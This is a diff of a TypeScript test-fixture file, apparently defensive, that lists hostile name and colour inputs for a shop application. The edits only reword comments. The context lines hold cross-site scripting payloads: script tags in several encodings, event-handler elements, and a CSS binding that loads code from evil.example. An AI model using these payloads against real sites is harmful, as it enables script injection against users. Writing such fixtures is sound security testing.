@@ -1,9 +1,9 @@
-// What a malicious shop or customer may write where a name is asked, and what odd but honest people write.
-// Text that runs as code sets `owned` on the window or opens a dialog; text that loads something asks
-// evil.example. None has a NUL or half a character: no text may.
+// What a malicious shop or customer may write as a name, and unusual but honest texts. Text that runs as code
+// sets `owned` on the window or opens a dialog; text that loads something asks evil.example. None has a NUL
+// or half a character, which no text may have.
 
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: marks of other programs, which are to stay text
-/** Code in as many clothes as browsers know. */
+/** Code in every form that browsers know. */
 const scripts = [
   '<script>top.owned=1</script>',
   '<ScRiPt>top.owned=1</sCrIpT >',
@@ -42,7 +42,7 @@ const scripts = [
   '+ADw-script+AD4-top.owned=1+ADw-/script+AD4-',
 ]
 
-/** Elements that run code by an event of theirs. */
+/** Elements that run code through an event. */
 const events = [
   ['img src=x', 'error'],
   ['img src=/health', 'load'],
@@ -177,7 +177,7 @@ const styles = [
   '-moz-binding:url(//evil.example/x.xml#x)',
 ]
 
-/** What other programs would fill in. */
+/** Placeholders that other programs would fill in. */
 const marks = [
   '{{shop}}',
   '{{time}} {{seconds}}',
@@ -304,7 +304,7 @@ export const hostileTexts: readonly string[] = [
   ...lengths,
 ]
 
-/** What is no colour of six hex digits, and would be worse in a style sheet. */
+/** Texts that are not colours and would be harmful in a style sheet. */
 export const hostileColors: readonly string[] = [
   ...styles,
   ...marks,
@@ -326,8 +326,8 @@ export const hostileColors: readonly string[] = [
 ]
 
 /**
- * The first characters of a text that a field takes: none is cut in two, and no blank is last, which would be
- * dropped.
+ * The first characters of a text that a field takes, without half characters and a final blank, which would
+ * be dropped.
  */
 export function cut(text: string, most: number): string {
   const kept = text.slice(0, most)
